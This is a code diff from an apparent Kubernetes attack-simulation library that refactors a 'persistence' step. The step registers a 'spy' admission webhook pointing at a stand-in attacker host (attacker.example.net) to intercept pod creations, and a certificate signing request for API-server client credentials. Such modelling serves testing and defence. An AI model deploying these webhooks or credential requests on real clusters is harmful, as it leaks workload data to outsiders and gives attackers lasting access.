@@ -1,29 +1,16 @@
-import { named, service } from './objects.ts';
+import { admission, certificateRequest, named, service, webhookConfiguration } from './objects.ts';
 import { type AttackStep, merge } from './step.ts';
 
-const webhook = (kind: string, failurePolicy: string): object => ({
-  apiVersion: 'admissionregistration.k8s.io/v1',
-  kind: `${kind}WebhookConfiguration`,
-  metadata: { name: `spy-${kind.toLowerCase()}` },
-  webhooks: [
-    {
-      name: 'spy.attacker.example.net',
-      failurePolicy,
-      sideEffects: 'None',
-      admissionReviewVersions: ['v1'],
-      clientConfig: { url: 'https://attacker.example.net/hook' },
-      rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
-      namespaceSelector: { matchLabels: { nothing: 'here' } },
-    },
-  ],
-});
-const admission = '/apis/admissionregistration.k8s.io/v1';
-const csr = (name: string, request: string): object => ({
-  apiVersion: 'certificates.k8s.io/v1',
-  kind: 'CertificateSigningRequest',
-  metadata: { name },
-  spec: { request, signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
-});
+const webhook = (kind: 'Mutating' | 'Validating', failurePolicy: string): object =>
+  webhookConfiguration(kind, `spy-${kind.toLowerCase()}`, {
+    name: 'spy.attacker.example.net',
+    failurePolicy,
+    clientConfig: { url: 'https://attacker.example.net/hook' },
+    rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
+    namespaceSelector: { matchLabels: { nothing: 'here' } },
+  });
+const csr = (name: string, request: string): object =>
+  certificateRequest(name, request, 'kubernetes.io/kube-apiserver-client', ['client auth']);
 const p = 'persistence';
 
 /** Staying. `CSR-FOR-…` stands for certificate requests. */
